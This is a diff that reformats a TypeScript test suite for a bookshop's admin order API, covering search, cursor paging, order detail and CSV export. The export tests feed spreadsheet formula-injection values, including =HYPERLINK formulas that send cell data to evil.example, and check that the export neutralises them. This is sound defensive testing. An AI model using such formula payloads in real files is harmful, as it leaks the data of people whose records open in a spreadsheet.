@@ -44,11 +44,14 @@ const domain = () => `${randomUUID().slice(0, 8)}.example`;
 const order = (email: string, more: Partial<OrderInput> = {}) => createOrder(t.app, { email, lines: lines(), ...more });
 
 async function overview(query: Record<string, string | number>) {
-  const res = await asAdmin(`/api/admin/orders?${new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]))}`);
+  const res = await asAdmin(
+    `/api/admin/orders?${new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]))}`,
+  );
   expect(res.statusCode, res.body).toBe(200);
   return res.json() as { orders: AdminOrder[]; next_cursor: string | null };
 }
-const idsOf = async (query: Record<string, string | number>) => (await overview({ limit: 100, ...query })).orders.map((o) => o.order_id);
+const idsOf = async (query: Record<string, string | number>) =>
+  (await overview({ limit: 100, ...query })).orders.map((o) => o.order_id);
 
 /** Every page of the overview, following next_cursor. */
 async function allPages(query: Record<string, string | number>) {
@@ -68,7 +71,10 @@ async function allPages(query: Record<string, string | number>) {
  */
 async function expectedOrder(ids: string[]) {
   const rows = await db()
-    .select({ id: orders.id, micros: sql<string>`lpad(((extract(epoch from ${orders.createdAt}) * 1000000)::bigint)::text, 20, '0')` })
+    .select({
+      id: orders.id,
+      micros: sql<string>`lpad(((extract(epoch from ${orders.createdAt}) * 1000000)::bigint)::text, 20, '0')`,
+    })
     .from(orders)
     .where(inArray(orders.id, ids));
   expect(rows).toHaveLength(ids.length);
@@ -79,8 +85,18 @@ async function expectedOrder(ids: string[]) {
 describe('GET /api/admin/orders (the overview)', () => {
   it("answers the admin's view of each order, newest first, and no next page when all fit", async () => {
     const d = domain();
-    const older = await order(`ann@${d}`, { createdAt: new Date('2026-01-01T10:00:00Z'), deliveryAddress: testAddress({ name: 'Ann Older' }), paymentRef: 'demo' });
-    const newer = await order(`bob@${d}`, { createdAt: new Date('2026-01-02T10:00:00Z'), addressMissing: true, status: 'Shipped', bookVaultRef: 'BV-77', trackingRef: 'RM1GB' });
+    const older = await order(`ann@${d}`, {
+      createdAt: new Date('2026-01-01T10:00:00Z'),
+      deliveryAddress: testAddress({ name: 'Ann Older' }),
+      paymentRef: 'demo',
+    });
+    const newer = await order(`bob@${d}`, {
+      createdAt: new Date('2026-01-02T10:00:00Z'),
+      addressMissing: true,
+      status: 'Shipped',
+      bookVaultRef: 'BV-77',
+      trackingRef: 'RM1GB',
+    });
     const page = await overview({ q: d });
     expect(page.next_cursor).toBeNull();
     expect(page.orders.map((o) => o.order_id)).toEqual([newer.id, older.id]);
@@ -102,7 +118,13 @@ describe('GET /api/admin/orders (the overview)', () => {
       address_missing: false,
       print_state: null,
     });
-    expect(page.orders[0]).toMatchObject({ status: 'Shipped', bookVault_ref: 'BV-77', tracking_ref: 'RM1GB', delivery_address: null, address_missing: true });
+    expect(page.orders[0]).toMatchObject({
+      status: 'Shipped',
+      bookVault_ref: 'BV-77',
+      tracking_ref: 'RM1GB',
+      delivery_address: null,
+      address_missing: true,
+    });
   });
 
   it('finds an order by its number (the last 10 characters, any case, with or without #) or its whole id', async () => {
@@ -118,7 +140,7 @@ describe('GET /api/admin/orders (the overview)', () => {
     expect(await idsOf({ q: other.id.slice(-10) })).toEqual([other.id]);
   });
 
-  it("finds orders by part of the e-mail address or the delivery name, whatever the case", async () => {
+  it('finds orders by part of the e-mail address or the delivery name, whatever the case', async () => {
     const d = domain();
     const ann = await order(`ann.reader@${d}`, { deliveryAddress: testAddress({ name: `Ann Smithers ${d}` }) });
     const bob = await order(`bob@${d}`, { deliveryAddress: testAddress({ name: `Bob Jones ${d}` }) });
@@ -158,7 +180,9 @@ describe('GET /api/admin/orders (the overview)', () => {
     expect(await idsOf({ q: d, status: 'Delivered' })).toEqual([delivered.id]);
     expect(new Set(await idsOf({ q: d, status: 'Printing' }))).toEqual(new Set([printing.id, missing.id]));
     expect(await idsOf({ q: d, address_missing: 'true' })).toEqual([missing.id]);
-    expect(new Set(await idsOf({ q: d, address_missing: 'false' }))).toEqual(new Set([printing.id, shipped.id, delivered.id]));
+    expect(new Set(await idsOf({ q: d, address_missing: 'false' }))).toEqual(
+      new Set([printing.id, shipped.id, delivered.id]),
+    );
     expect(await idsOf({ q: d, address_missing: 'true', status: 'Shipped' })).toEqual([]);
     // Without a search the filter still applies to every order.
     const everyMissing = await overview({ address_missing: 'true', limit: 100 });
@@ -170,7 +194,9 @@ describe('GET /api/admin/orders (the overview)', () => {
     const d = domain();
     const made = [
       // Three at exactly the same moment: only the id tells them apart.
-      ...(await Promise.all([1, 2, 3].map((n) => order(`same${n}@${d}`, { createdAt: '2026-03-01 12:00:00.500500+00' })))),
+      ...(await Promise.all(
+        [1, 2, 3].map((n) => order(`same${n}@${d}`, { createdAt: '2026-03-01 12:00:00.500500+00' })),
+      )),
       // Two within that same millisecond, before and after it: a millisecond cursor would lose one or repeat one.
       await order(`micro-before@${d}`, { createdAt: '2026-03-01 12:00:00.500100+00' }),
       await order(`micro-after@${d}`, { createdAt: '2026-03-01 12:00:00.500900+00' }),
@@ -207,7 +233,8 @@ describe('GET /api/admin/orders (the overview)', () => {
 
   it('answers 400 with a message, never a 5xx, for a bad cursor, limit, status, flag or search', async () => {
     const validId = randomUUID();
-    const cursor = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
+    const cursor = (value: unknown) =>
+      Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
     const badCursors = [
       'not a cursor!',
       '%%%',
@@ -263,16 +290,35 @@ describe('GET /api/admin/orders/:orderId (one order in full)', () => {
     const open = await t.app.inject({
       method: 'POST',
       url: '/api/checkout/create_checkout_session',
-      payload: { cartItems: [{ product_id: puzzles.id, qty: 2 }, { product_id: colours.id, qty: 1 }], user_id: null, user_email: '' },
+      payload: {
+        cartItems: [
+          { product_id: puzzles.id, qty: 2 },
+          { product_id: colours.id, qty: 1 },
+        ],
+        user_id: null,
+        user_email: '',
+      },
     });
     expect(open.statusCode, open.body).toBe(200);
-    const paid = await t.app.inject({ method: 'POST', url: `/api/checkout/demo/${open.json().sessionId}/pay`, payload: { email, address: testAddress() } });
+    const paid = await t.app.inject({
+      method: 'POST',
+      url: `/api/checkout/demo/${open.json().sessionId}/pay`,
+      payload: { email, address: testAddress() },
+    });
     expect(paid.statusCode, paid.body).toBe(200);
     const orderId = paid.json().order_id as string;
     const row = (await db().select().from(orders).where(eq(orders.id, orderId)))[0]!;
 
-    const update = (body: Record<string, unknown>) => t.app.inject({ method: 'POST', url: '/api/admin/update_order_status', headers: bearer(admin.token), payload: { order_id: orderId, ...body } });
-    expect((await update({ status: 'Shipped', bookVault_ref: 'BV-1234', tracking_ref: 'RM123456GB' })).statusCode).toBe(200);
+    const update = (body: Record<string, unknown>) =>
+      t.app.inject({
+        method: 'POST',
+        url: '/api/admin/update_order_status',
+        headers: bearer(admin.token),
+        payload: { order_id: orderId, ...body },
+      });
+    expect((await update({ status: 'Shipped', bookVault_ref: 'BV-1234', tracking_ref: 'RM123456GB' })).statusCode).toBe(
+      200,
+    );
     expect((await update({ status: 'Delivered' })).statusCode).toBe(200);
     const subjects = (await mailsTo(db(), email)).map((mail) => mail.subject).reverse(); // oldest first
 
@@ -301,7 +347,17 @@ describe('GET /api/admin/orders/:orderId (one order in full)', () => {
     });
     expect(detail.subtotal).toBe(20.48);
     expect(detail.history).toHaveLength(3);
-    expect(detail.history.map((h: { from: string | null; to: string; by: string; bookVault_ref: string | null; tracking_ref: string | null }) => [h.from, h.to, h.by, h.bookVault_ref, h.tracking_ref])).toEqual([
+    expect(
+      detail.history.map(
+        (h: {
+          from: string | null;
+          to: string;
+          by: string;
+          bookVault_ref: string | null;
+          tracking_ref: string | null;
+        }) => [h.from, h.to, h.by, h.bookVault_ref, h.tracking_ref],
+      ),
+    ).toEqual([
       [null, 'Printing', 'checkout', null, null],
       ['Printing', 'Shipped', admin.email, 'BV-1234', 'RM123456GB'],
       ['Shipped', 'Delivered', admin.email, null, null],
@@ -315,10 +371,34 @@ describe('GET /api/admin/orders/:orderId (one order in full)', () => {
   });
 
   it('shows the discount, its code and the payment reference, and null for an order without an address', async () => {
-    const made = await order(`disc@${domain()}`, { discountPence: 500, discountCode: 'SAVE5', paymentRef: 'pi_3Abc', addressMissing: true });
+    const made = await order(`disc@${domain()}`, {
+      discountPence: 500,
+      discountCode: 'SAVE5',
+      paymentRef: 'pi_3Abc',
+      addressMissing: true,
+    });
     const detail = (await asAdmin(`/api/admin/orders/${made.id}`)).json();
-    expect(detail).toMatchObject({ subtotal: 20.48, discount: 5, discount_code: 'SAVE5', shipping: 3.83, total_cost: 19.31, payment_ref: 'pi_3Abc', delivery_address: null, address_missing: true });
-    expect(detail.history).toEqual([{ from: null, to: 'Printing', bookVault_ref: null, tracking_ref: null, at: expect.any(String), by: 'checkout', mail: null }]);
+    expect(detail).toMatchObject({
+      subtotal: 20.48,
+      discount: 5,
+      discount_code: 'SAVE5',
+      shipping: 3.83,
+      total_cost: 19.31,
+      payment_ref: 'pi_3Abc',
+      delivery_address: null,
+      address_missing: true,
+    });
+    expect(detail.history).toEqual([
+      {
+        from: null,
+        to: 'Printing',
+        bookVault_ref: null,
+        tracking_ref: null,
+        at: expect.any(String),
+        by: 'checkout',
+        mail: null,
+      },
+    ]);
   });
 
   it('answers 404 for an unknown order and 400 for something that is not an order id', async () => {
@@ -345,7 +425,12 @@ describe('GET /api/admin/orders/export (CSV)', () => {
     const d = domain();
     const made = await order(`csv@${d}`, {
       createdAt: new Date('2026-06-01T10:00:00Z'),
-      deliveryAddress: testAddress({ name: 'Zoë Brontë', line1: 'Flat 2, "The Old Mill"', line2: 'Mill Lane\nBack door', phone: '+44 1904 555123' }),
+      deliveryAddress: testAddress({
+        name: 'Zoë Brontë',
+        line1: 'Flat 2, "The Old Mill"',
+        line2: 'Mill Lane\nBack door',
+        phone: '+44 1904 555123',
+      }),
       paymentRef: 'demo',
       discountPence: 100,
       discountCode: 'TENOFF',
@@ -355,14 +440,37 @@ describe('GET /api/admin/orders/export (CSV)', () => {
     });
     const res = await exportCsv({ q: d });
     expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
-    expect(res.headers['content-disposition']).toBe(`attachment; filename="orders-${new Date().toISOString().slice(0, 10)}.csv"`);
+    expect(res.headers['content-disposition']).toBe(
+      `attachment; filename="orders-${new Date().toISOString().slice(0, 10)}.csv"`,
+    );
     expect(res.headers['cache-control']).toBe('no-store');
     expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
     const text = res.rawPayload.toString('utf8');
     expect(text.endsWith('\r\n')).toBe(true);
     const rows = parseCsv(text.slice(1));
     expect(rows[0]).toEqual(EXPORT_HEADER);
-    expect(EXPORT_HEADER).toEqual(expect.arrayContaining(['Order number', 'Order id', 'Date', 'Status', 'E-mail', 'Name', 'Address line 1', 'Address line 2', 'Postcode', 'Country', 'Phone', 'Book', 'Quantity', 'Unit price', 'Order total', 'Payment ref', 'Print ref', 'Tracking ref']));
+    expect(EXPORT_HEADER).toEqual(
+      expect.arrayContaining([
+        'Order number',
+        'Order id',
+        'Date',
+        'Status',
+        'E-mail',
+        'Name',
+        'Address line 1',
+        'Address line 2',
+        'Postcode',
+        'Country',
+        'Phone',
+        'Book',
+        'Quantity',
+        'Unit price',
+        'Order total',
+        'Payment ref',
+        'Print ref',
+        'Tracking ref',
+      ]),
+    );
     expect(rows).toHaveLength(3);
     const record = (row: string[]) => Object.fromEntries(EXPORT_HEADER.map((name, i) => [name, row[i]]));
     expect(record(rows[1]!)).toEqual({
@@ -396,13 +504,21 @@ describe('GET /api/admin/orders/export (CSV)', () => {
       'Print ref': 'BV-9',
       'Tracking ref': 'TRK-9',
     });
-    expect(record(rows[2]!)).toMatchObject({ 'Order id': made.id, Book: 'Puzzle Parade', Quantity: '2', 'Unit price': '7.99', 'Order total': '23.31' });
+    expect(record(rows[2]!)).toMatchObject({
+      'Order id': made.id,
+      Book: 'Puzzle Parade',
+      Quantity: '2',
+      'Unit price': '7.99',
+      'Order total': '23.31',
+    });
   });
 
   it('neutralises a formula in any cell (a name of =HYPERLINK(...)) so that a spreadsheet shows it as text', async () => {
     const d = domain();
     const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")';
-    await order(`formula@${d}`, { deliveryAddress: testAddress({ name: evil, line1: '@SUM(1+1)', city: '-1+2', county: '+cmd' }) });
+    await order(`formula@${d}`, {
+      deliveryAddress: testAddress({ name: evil, line1: '@SUM(1+1)', city: '-1+2', county: '+cmd' }),
+    });
     const res = await exportCsv({ q: d });
     const raw = res.rawPayload.toString('utf8');
     expect(raw).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
@@ -412,16 +528,26 @@ describe('GET /api/admin/orders/export (CSV)', () => {
     expect(row![column('Town or city')]).toBe("'-1+2");
     expect(row![column('County')]).toBe("'+cmd");
     // Every text cell of the file: none starts as a formula.
-    expect(parseCsv(raw.slice(1)).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(
+      parseCsv(raw.slice(1))
+        .flat()
+        .filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+    ).toEqual([]);
   });
 
   it('leaves no formula for a spreadsheet that splits on semicolons or tabs, as most of Europe opens a .csv (issue 32, finding 7)', async () => {
     const d = domain();
-    const address = testAddress({ name: 'Ann;=HYPERLINK("http://evil.example/?"&A1,"Refund")', line1: '14 Orchard Row;+cmd', line2: 'Flat 2, @SUM(1+1)', county: 'York;-2+3' });
+    const address = testAddress({
+      name: 'Ann;=HYPERLINK("http://evil.example/?"&A1,"Refund")',
+      line1: '14 Orchard Row;+cmd',
+      line2: 'Flat 2, @SUM(1+1)',
+      county: 'York;-2+3',
+    });
     await order(`europe@${d}`, { deliveryAddress: address });
     const raw = (await exportCsv({ q: d })).rawPayload.toString('utf8').slice(1);
     for (const separator of [',', ';', '\t'] as const) {
-      for (const quotes of [true, false]) expect(spreadsheetCells(raw, separator, { quotes }).filter(looksLikeFormula)).toEqual([]);
+      for (const quotes of [true, false])
+        expect(spreadsheetCells(raw, separator, { quotes }).filter(looksLikeFormula)).toEqual([]);
     }
     // A reader that splits on commas still gets each field whole, the apostrophes being the only change.
     const [, row] = parseCsv(raw);
@@ -433,7 +559,9 @@ describe('GET /api/admin/orders/export (CSV)', () => {
 
   it('names what breaks the address rule in a kept address (decision 133), so the file flags it too', async () => {
     const d = domain();
-    await order(`held@${d}`, { deliveryAddress: testAddress({ name: 'Ann \u202eredaeR', phone: `+44 ${'1'.repeat(3000)}` }) });
+    await order(`held@${d}`, {
+      deliveryAddress: testAddress({ name: 'Ann \u202eredaeR', phone: `+44 ${'1'.repeat(3000)}` }),
+    });
     const [, row] = parseCsv((await exportCsv({ q: d })).rawPayload.toString('utf8').slice(1));
     expect(row![column('Address problems')]).toBe(
       'Full name contains an invisible character (U+202E) that can reorder or hide text: please type it again without it. Phone number must be at most 24 characters.',
@@ -460,7 +588,9 @@ describe('GET /api/admin/orders/export (CSV)', () => {
   it('reads the orders batch by batch (keyset), with ties in created_at, each order once and in order', async () => {
     const d = domain();
     const made = [
-      ...(await Promise.all([1, 2, 3, 4].map((n) => order(`tie${n}@${d}`, { createdAt: '2026-07-01 12:00:00.250250+00' })))),
+      ...(await Promise.all(
+        [1, 2, 3, 4].map((n) => order(`tie${n}@${d}`, { createdAt: '2026-07-01 12:00:00.250250+00' })),
+      )),
       await order(`micro@${d}`, { createdAt: '2026-07-01 12:00:00.250750+00' }),
       await order(`late@${d}`, { createdAt: '2026-07-02 12:00:00+00' }),
       await order(`early@${d}`, { createdAt: '2026-06-30 12:00:00+00' }),
